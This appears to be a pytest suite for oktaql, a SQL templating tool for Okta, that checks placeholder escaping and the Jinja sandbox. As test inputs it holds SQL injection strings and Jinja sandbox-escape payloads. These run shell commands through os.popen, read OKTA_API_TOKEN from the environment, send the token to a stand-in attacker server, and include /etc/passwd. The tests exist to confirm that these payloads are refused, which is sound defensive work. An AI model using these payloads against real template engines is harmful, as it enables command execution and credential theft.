"""{{ var }} rendering: every placeholder escaped for the SQL context it stands in."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from sqlglot import exp

import oktaql
from oktaql.parser import Exec, Query, parse
from oktaql.templates import render


@pytest.mark.parametrize(
    ("sql", "values", "want"),
    [
        ("WHERE a = '{{ v }}'", {"v": "x' OR '1'='1"}, "WHERE a = 'x'' OR ''1''=''1'"),
        ("WHERE a = {{ v }}", {"v": 5}, "WHERE a = 5"),
        ("WHERE a = {{ v }}", {"v": "true"}, "WHERE a = true"),
        ("WHERE a = {{ v }}", {"v": "0oa1'; DROP"}, "WHERE a = '0oa1''; DROP'"),
        ("WHERE a = {{v}}", {"v": "12"}, "WHERE a = 12"),
        ("SELECT '{{ OktaAccessGateway-Agent }}'", {"OktaAccessGateway-Agent": "g"}, "SELECT 'g'"),
        ("WHERE a = 1 -- {{ not_needed }}", {}, "WHERE a = 1 -- { { not_needed }}"),
        ("/* {{ nor_this }} */ SELECT 1", {}, "/* { { nor_this }} */ SELECT 1"),
        ("SELECT 1", {}, "SELECT 1"),
    ],
)
def test_render(sql: str, values: dict[str, object], want: str) -> None:
    assert render(sql, values) == want


def test_json_text_in_a_string_gets_json_escapes() -> None:
    hostile = "a\"b\\c'd"
    out = render('EXEC okta.x.y.z @@json=\'{"file": "{{ f }}"}\'', {"f": hostile})
    stmt = parse(out)
    assert isinstance(stmt, Exec) and stmt.json_body is not None
    assert json.loads(stmt.json_body)["file"] == hostile


def test_okta_filter_in_a_string_stays_one_value() -> None:
    out = render("WHERE search = 'profile.login eq \"{{ login }}\"'", {"login": 'x" or "1" eq "1'})
    assert out == 'WHERE search = \'profile.login eq "x\\" or \\"1\\" eq \\"1"\''


def test_missing_variable_names_it() -> None:
    with pytest.raises(oktaql.TemplateError) as info:
        render("SELECT '{{ appId }}'", {})
    assert str(info.value) == "template variable appId has no value: pass it with --var appId=VALUE"


def test_bad_template_syntax_is_a_template_error() -> None:
    with pytest.raises(oktaql.TemplateError, match="unclosed"):
        render("SELECT '{{ appId '", {"appId": 1})
    with pytest.raises(oktaql.TemplateError, match="template"):
        render("SELECT {{ a | nosuchfilter }}", {"a": 1})


# --------------------------------------------------------------------------- the sandbox

SECRET = "00tplSECRET-token-7Hq2Zr"


def _cli(*args: str) -> Any:
    from click.testing import CliRunner

    from oktaql.cli import main

    return CliRunner().invoke(main, list(args))


def test_cycler_popen_payload_does_not_run(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    sql = f"SELECT '{{{{ cycler.__init__.__globals__.os.popen(\"touch {marker}\").read() }}}}'"
    with pytest.raises(oktaql.TemplateError) as info:
        try:
            render(sql, {})
        finally:
            assert not marker.exists()  # `touch` never ran
    assert str(info.value).startswith("template refused: access to attribute '__init__'")
    # a stranger's .sql file, run the way the README says is safe
    script = tmp_path / "stranger.sql"
    script.write_text(sql + ";\n", encoding="utf-8")
    res = _cli("exec", "--dry-run", "--org-url", "https://acme.okta.com", "-f", str(script))
    assert res.exit_code == 1
    assert "template refused" in res.output and "Traceback" not in res.output
    assert isinstance(res.exception, SystemExit)
    assert not marker.exists()


def test_environ_route_never_shows_the_token(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OKTA_API_TOKEN", SECRET)
    routes = [
        "{{ cycler.__init__.__globals__.os.environ['OKTA_API_TOKEN'] }}",
        "{{ cycler.__init__.__globals__.os.environ.OKTA_API_TOKEN }}",
        "{{ self.__init__.__globals__.os.environ.OKTA_API_TOKEN }}",
        "{{ lipsum.__globals__.os.environ.OKTA_API_TOKEN }}",
        "{{ (v|attr('__class__')|attr('__mro__'))[1].__subclasses__() }}",
    ]
    for route in routes:
        sql = f"SELECT id FROM okta.apps.tokens WHERE appId = '{route}'"
        with pytest.raises(oktaql.TemplateError) as info:
            oktaql.connect(org_url="https://acme.okta.com").cursor().execute("EXPLAIN " + sql)
        assert SECRET not in str(info.value)
        script = tmp_path / "stranger.sql"
        script.write_text(sql, encoding="utf-8")
        res = _cli("exec", "--dry-run", "--org-url", "https://acme.okta.com", "-f", str(script))
        assert res.exit_code == 1, res.output
        assert SECRET not in res.output and "Traceback" not in res.output


class _Listener(BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # noqa: N802 - http.server's name
        self.server.seen.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"ok")

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def other_host() -> Iterator[tuple[Any, str]]:
    """A real server on 127.0.0.2: the attacker's, recording what reaches it."""
    srv = ThreadingHTTPServer(("127.0.0.2", 0), _Listener)
    srv.seen = []  # type: ignore[attr-defined]
    threading.Thread(target=srv.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield srv, f"http://127.0.0.2:{srv.server_address[1]}"
    finally:
        srv.shutdown()
        srv.server_close()


def test_template_cannot_send_the_token_to_another_host(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, other_host: tuple[Any, str]
) -> None:
    srv, url = other_host
    monkeypatch.setenv("OKTA_API_TOKEN", SECRET)
    g = "cycler.__init__.__globals__"
    payload = (
        f'{{{{ {g}.__builtins__.__import__("urllib.request").request.urlopen('
        f'"{url}/" ~ {g}.os.environ.OKTA_API_TOKEN).read() }}}}'
    )
    script = tmp_path / "stranger.sql"
    script.write_text(f"SELECT id FROM okta.apps.tokens WHERE appId = {payload};", "utf-8")
    res = _cli("exec", "--dry-run", "--org-url", "https://acme.okta.com", "-f", str(script))
    assert srv.seen == []  # nothing reached the other host
    assert res.exit_code == 1 and "template refused" in res.output


@pytest.mark.parametrize(
    "expr",
    [
        "v.__class__",
        "v|attr('__class__')",
        "f|attr('__globals__')",
        "v.upper.__self__",
        "'{0.__class__}'.format(v)",
        "'{x.__class__}'.format_map({'x': v})",
        "[].__class__.__base__.__subclasses__()",
        "(v|attr('__class__')).__mro__",
        "self._TemplateReference__context",
        "('{0.__globals__}'|attr('format'))(f)",
        "('{x.__globals__}'|attr('format_map'))({'x': f})",
    ],
)
def test_underscore_attributes_are_refused(expr: str) -> None:
    with pytest.raises(oktaql.TemplateError) as info:
        render(f"SELECT {{{{ {expr} }}}}", {"v": "x", "f": _cli})
    assert str(info.value).startswith("template refused: access to attribute")
    assert "'_" in str(info.value)


@pytest.mark.parametrize("name", ["range", "dict", "cycler", "joiner", "namespace", "lipsum"])
def test_jinja_globals_are_gone(name: str) -> None:
    with pytest.raises(oktaql.TemplateError) as info:
        render(f"SELECT {{{{ {name}() }}}}", {})
    assert str(info.value) == (
        f"template variable {name} has no value: pass it with --var {name}=VALUE "
        f"(Jinja's {name}() is not available in oktaql templates)"
    )


@pytest.mark.parametrize(
    ("sql", "message"),
    [
        ("{% include '/etc/passwd' %}", "templates cannot include, import or extend other files"),
        ("{% import '/etc/passwd' as p %}", "templates cannot include, import or extend"),
        ("{% extends '/etc/passwd' %}", "templates cannot include, import or extend"),
        ("{% set l = [1] %}{{ l.append(2) }}", "template refused"),
        ("SELECT {{ 'a' * 10**9 }}", "template refused: a value over 100000 long"),
        ("SELECT {{ 9 ** (10 ** 9) }}", "template refused: a number over 4096 bits"),
        ("SELECT {{ 1 / 0 }}", "template error: ZeroDivisionError: division by zero"),
    ],
)
def test_what_else_a_template_cannot_do(sql: str, message: str) -> None:
    with pytest.raises(oktaql.TemplateError, match=re.escape(message)):
        render(sql, {})


def test_what_templates_still_do() -> None:
    sql = (
        "SELECT {% for a in apps %}'{{ a | upper }}'{% if not loop.last %},{% endif %}{% endfor %}"
        "{% if n > 1 %}, {{ n * 2 }}{% endif %}, '{{ who | default('me') }}'"
    )
    assert render(sql, {"apps": ["x", "y'z"], "n": 2}) == "SELECT 'X','Y''Z', 4, 'me'"


# --------------------------------------------------------------------------- where a value goes


HOSTILE = "x' || (SELECT content FROM read_text('{path}')) || '"


def test_value_after_a_backslash_literal_stays_in_its_string(tmp_path: Path) -> None:
    secret_file = tmp_path / "secret.txt"
    secret_file.write_text("FILE-SECRET-42", encoding="utf-8")
    # quote-free, so the old scanner's "bare" quoting could not neutralise it
    path = "||".join(f"chr({ord(c)})" for c in str(secret_file))
    value = f" || (SELECT content FROM read_text({path})) || "
    sql = "SELECT 'a_b' LIKE 'a\\_b' ESCAPE '\\' AS m, '{{ v }}' AS v"
    out = render(sql, {"v": value})
    stmt = parse(out)
    assert isinstance(stmt, Query) and isinstance(stmt.ast, exp.Select)
    assert [e.sql() for e in stmt.ast.expressions] == [
        "'a_b' LIKE 'a\\_b' ESCAPE '\\' AS m",
        f"'{value}' AS v",
    ]
    assert [f for f in stmt.ast.find_all(exp.Func) if "read_text" in f.sql().lower()] == []
    with oktaql.connect() as conn:
        cur = conn.cursor()
        cur.execute(sql, {"v": value})
        assert cur.fetchall() == [(True, value)]
        cur.execute(sql, {"v": HOSTILE.format(path=secret_file)})
        assert cur.fetchall() == [(True, HOSTILE.format(path=secret_file))]


def test_value_after_a_backslash_literal_reaches_the_api_as_one_segment() -> None:
    conn = oktaql.connect(org_url="https://acme.okta.com")
    sql = (
        "EXPLAIN SELECT id FROM okta.apps.tokens WHERE appId = '{{ a }}' "
        "AND clientId LIKE 'c\\_%' ESCAPE '\\' AND tokenId = '{{ t }}'"
    )
    value = " OR 1=1 OR "
    cur = conn.cursor()
    cur.execute(sql, {"a": "0oa1", "t": value})
    urls = [r[4] for r in cur.fetchall() if r[4]]
    assert urls == ["https://acme.okta.com/api/v1/apps/0oa1/tokens/%20OR%201%3D1%20OR%20"]


@pytest.mark.parametrize(
    ("sql", "values", "want"),
    [
        ("SELECT 1 -{{ v }}", {"v": -5}, "SELECT 1 - -5"),
        ("SELECT {{ a }}{{ b }}", {"a": "x", "b": 2}, "SELECT 'x' 2"),
        ('SELECT "{{ v }}"', {"v": 'a"b'}, 'SELECT "a""b"'),
        ("SELECT `{{ v }}`", {"v": "a`b"}, "SELECT `a``b`"),
        (
            "EXPLAIN SELECT a FROM t WHERE b = {{ v }}",
            {"v": "x"},
            "EXPLAIN SELECT a FROM t WHERE b = 'x'",
        ),
        (
            "SHOW RESOURCES IN okta.apps LIKE '{{ v }}'",
            {"v": "a'"},
            "SHOW RESOURCES IN okta.apps LIKE 'a'''",
        ),
        ("SELECT 1 /* {% if x %} */", {}, "SELECT 1 /* { % if x %} */"),
        ("SELECT 1 -- {{{ x }}}\n, 2", {}, "SELECT 1 -- { { { x }}}\n, 2"),
        ("SELECT {{- v -}} ", {"v": 3}, "SELECT 3"),
        ("SELECT '{{ v }}'", {"v": "{{ w }}"}, "SELECT '{{ w }}'"),
    ],
)
def test_contexts(sql: str, values: dict[str, object], want: str) -> None:
    assert render(sql, values) == want


@pytest.mark.parametrize(
    ("sql", "values", "message"),
    [
        ("SELECT x'{{ v }}'", {"v": "ab"}, "unterminated"),
        ("SELECT {{ v }}", {"v": float("nan")}, "template variable v is nan, not a finite number"),
        ("SELECT '{{ v }}'", {"v": "\ufdd0"}, "template variable v holds U+FDD0 or U+FDD1"),
        (
            "SELECT {% if q %}'{% endif %}{{ v }}{% if q %}'{% endif %}",
            {"q": False, "v": "a' OR 1=1 --"},
            "the value of template variable v would change the statement outside its own literal",
        ),
        (
            "SELECT {% filter replace(\"''\", \"'\") %}'{{ v }}'{% endfilter %}",
            {"v": "a' OR 1=1 --"},
            "a {% filter %} or macro changed a value after it was escaped",
        ),
        ("SELECT {% set x %}{{ v }}{% endset %}{{ x }}", {"v": 1}, "U+FDD0"),
        ("SELECT '{{ v }}", {"v": 1}, "unterminated string: close it (line 1, column 8)"),
    ],
)
def test_refused(sql: str, values: dict[str, object], message: str) -> None:
    with pytest.raises(oktaql.ProgrammingError, match=re.escape(message)):
        render(sql, values)


def test_a_statement_renders_alike_every_time() -> None:
    # compiled once and cached: constant placeholders must not keep the first rendering's marks
    sql = "SELECT {{ 'k' }}, '{{ v }}', {{ 1 + 1 }}"
    for v in ["a", "b'c", "d"]:
        assert render("SELECT '{{ v }}', {{ 'other' }}", {"v": "z"}) == "SELECT 'z', 'other'"
        assert render(sql, {"v": v}) == f"SELECT 'k', '{v.replace(chr(39), chr(39) * 2)}', 2"


@pytest.mark.parametrize("value", ["a]b", "a'b", "x', 'y"])
def test_a_value_inside_brackets_is_one_list_element(value: str) -> None:
    # [...] is a DuckDB list (the dialect reads no bracket-quoted names): a value in it is
    # a literal like anywhere else
    cur = oktaql.connect().cursor()
    cur.execute("SELECT [{{ v }}]", {"v": value})
    assert cur.fetchall() == [([value],)]
